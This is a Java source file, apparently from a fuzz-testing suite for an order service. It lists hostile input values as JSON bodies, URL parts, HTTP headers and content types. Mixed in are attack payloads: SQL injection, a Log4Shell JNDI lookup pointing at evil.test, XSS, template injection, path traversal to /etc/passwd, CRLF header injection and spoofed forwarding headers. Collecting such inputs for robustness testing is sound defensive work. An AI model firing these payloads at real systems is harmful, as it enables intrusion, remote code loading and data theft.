package shop.orderly.launcher;

import java.util.List;

/** What nobody should send, as JSON values, as texts for paths and queries, and as header values. */
final class HostileValues {
    static final String NINES = "9".repeat(1_000);

    /** Values as they stand in JSON. */
    static final List<String> JSON = List.of(
            "null", "true", "false", "0", "-0", "-1", "1e400", "-1e400", "0.1e-400", "1e-400", "1E+2147483647",
            "1e2147483648", "-1e-2147483649", "9223372036854775807", "9223372036854775808", "-9223372036854775808",
            "-9223372036854775809", "2147483648", "-2147483649", "9007199254740993", "0.30000000000000004",
            "123456789012345678.12345678901234567890", NINES, "-" + NINES, "0." + NINES, "1" + "0".repeat(999),
            "NaN", "Infinity", "-Infinity", "+1", "01", ".5", "5.", "0x10", "1_000", "1e", "--1",
            "\"\"", "\" \"", "\"0\"", "\"-1\"", "\"1e400\"", "\"true\"", "\"null\"", "\"\\u0000\"", "\"a\\u0000b\"",
            "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"x\\ud83d\"", "\"\\uffff\"", "\"\\u202e\\u200f\\u0645\"", "\"\\u200b\\u200d\\ufeff\"",
            "\"e\\u0301\\u0301\\u0301\\u0301\"", "\"\u0430\u0440\u0440le\"", "\"\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67\"",
            "\"\\r\\nSet-Cookie: a=b\"", "\"\\t\\b\\f\\u001b[31m\"", "\"\\x\"", "\"\\u12\"", "\"unended", "'single'",
            "\"" + "a".repeat(5_001) + "\"", "\"" + "\u00e4".repeat(20_000) + "\"", "\"../../etc/passwd\"",
            "\"'; DROP TABLE nothing; --\"", "\"${jndi:ldap://evil.test/a}\"", "\"#{7*7}{{7*7}}${7*7}\"", "\"<script>alert(1)</script>\"",
            "\"%00%n%s%x\"", "\"2026-13-45T99:99:99Z\"", "\"javascript:alert(1)\"", "\"http://[::1\"", "\"https://\\u0000\"",
            "[]", "{}", "[null]", "[[]]", "[{}]", "[1,2]", "[\"a\",\"a\"]", "{\"a\":1}", "{\"\":null}", "{\"@type\":\"a\"}",
            "[\"java.net.URL\",\"http://evil.test\"]", "{\"class\":\"a\",\"$ref\":\"#\"}",
            "[" + "1,".repeat(5_000) + "1]", "[".repeat(2_000) + "]".repeat(2_000), "{\"a\":".repeat(1_500) + "1" + "}".repeat(1_500));

    /** Texts for a part of a path or a parameter, in the form in which they are sent. */
    static final List<String> URL = List.of(
            "", "0", "-1", "1", "true", "null", "undefined", "NaN", "Infinity", "1e400", "1E999999999", "9223372036854775807",
            "9223372036854775808", "-9223372036854775808", "-9223372036854775809", "2147483648", "1.5", "0x1F", NINES,
            "%20", "%09", "%0d%0aX-Evil:1", "%00", "a%00b", "%2e%2e", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%5c..", "%2f", "%5c", "%25", "%2500",
            "%3b", "a;b=c", "%3Fa%3Db", "%23", "%c3%a4", "%e2%80%ae%e2%80%8f", "%f0%9f%98%80", "%ed%a0%80", "%c0%af", "%ff", "%fe%ff",
            "%EF%BB%BF", "%e2%80%8b", "%27%20OR%20%271%27=%271", "%27%3b%20DROP%20TABLE%20nothing%3b--", "1%29%20OR%201=1", "%22", "%27", "%60",
            "$%7bjndi:ldap://evil.test/a%7d", "%7b%7b7*7%7d%7d", "%24%7b7*7%7d", "*", "%25%25", "_", "%5b%5d", "%7b%7d", "a,b", "a%2cb",
            "me", "admin", "0198c0de-0000-7000-8000-00000000dead", "00000000-0000-0000-0000-000000000000", "x".repeat(300), "x".repeat(4_000),
            "%3Cscript%3Ealert(1)%3C/script%3E", "AA", "AAAA", "YQ", "====", "YR9h", "YR9hH2Ifcg", "MR8xHzE", "ASC", "price", "-price", "price,asc", "usd", "OPEN", "PLACED");

    /** Whole header lines. */
    static final List<String> HEADERS = List.of(
            "If-Match: \"1\"", "If-Match: *", "If-Match: W/\"1\"", "If-Match: \"x\"", "If-Match: \"99999999999999999999\"", "If-Match: -1", "If-Match: ",
            "If-Match: \"1\", \"2\"", "If-None-Match: *", "If-Modified-Since: yesterday", "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT",
            "Idempotency-Key: ", "Idempotency-Key: " + "k".repeat(256), "Idempotency-Key: \u00e4", "Idempotency-Key: \"", "Idempotency-Key: ' OR 1=1",
            "Idempotency-Key: a\u0001b", "Prefer: wait=-1", "Prefer: wait=0", "Prefer: wait=x", "Prefer: wait=99999999999999999999", "Prefer: wait", "Prefer: ,;=,",
            "Prefer: wait=1;wait=0", "Prefer: return=minimal", "Last-Event-ID: x", "Last-Event-ID: -1", "Last-Event-ID: 9223372036854775808",
            "Accept: image/png", "Accept: */*;q=0", "Accept: nonsense", "Accept: application/xml", "Accept: text/html", "Accept: application/json;q=9",
            "Accept: ;;;", "Accept: a/b/c", "Accept: text/event-stream", "Accept: application/json;charset=nonsense", "Accept-Charset: utf-16", "Accept-Charset: nonsense", "Accept-Language: %",
            "Accept-Language: " + "a".repeat(500), "Accept-Encoding: *;q=0", "Range: bytes=0-0", "Range: bytes=9-1", "Range: x",
            "Content-Encoding: gzip", "Content-Encoding: br", "Content-Encoding: nonsense", "Content-Language: \u00e4", "Content-Range: x",
            "X-HTTP-Method-Override: DELETE", "X-HTTP-Method: PUT", "X-Method-Override: TRACE", "X-Forwarded-Host: evil.test", "X-Forwarded-For: x",
            "X-Forwarded-Proto: javascript", "X-Forwarded-Prefix: /../..", "Forwarded: for=;;", "X-Original-URL: /admin", "X-Rewrite-URL: /admin",
            "traceparent: 00-0-0-0", "traceparent: " + "f".repeat(500), "tracestate: " + "a=b,".repeat(200), "baggage: %%%", "b3: x", "Origin: null", "Origin: https://evil.test",
            "Referer: \u0000x", "Cookie: a=" + "b".repeat(2_000), "Cookie: ;=;$Version=x", "User-Agent: ${jndi:ldap://evil.test/a}", "Date: x", "Upgrade: websocket",
            "Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings", "TE: trailers", "Via: x", "Max-Forwards: -1", "X-Big: " + "x".repeat(7_000));

    /** Whole content types. */
    static final List<String> CONTENT_TYPES = List.of(
            "text/plain", "application/xml", "text/html", "application/x-www-form-urlencoded", "multipart/form-data", "multipart/form-data; boundary=x",
            "application/octet-stream", "application/json; charset=utf-16", "application/json; charset=nonsense", "application/json; charset=\"\"", "application/json; charset=utf-7",
            "application/json; charset=ISO-8859-1", "application/json;charset=UTF-8;charset=UTF-16", "application/json;;;", "application/json; a=b", "application/vnd.api+json",
            "application/problem+json", "application/*+json", "*/*", "json", "", "/", "application/", "application/json, text/plain", "application/json\u00e4",
            "application/x-java-serialized-object", "application/cbor", "application/yaml", "application/x-ndjson", "APPLICATION/JSON", "application/merge-patch+json", "text/event-stream");

    private HostileValues() {}
}
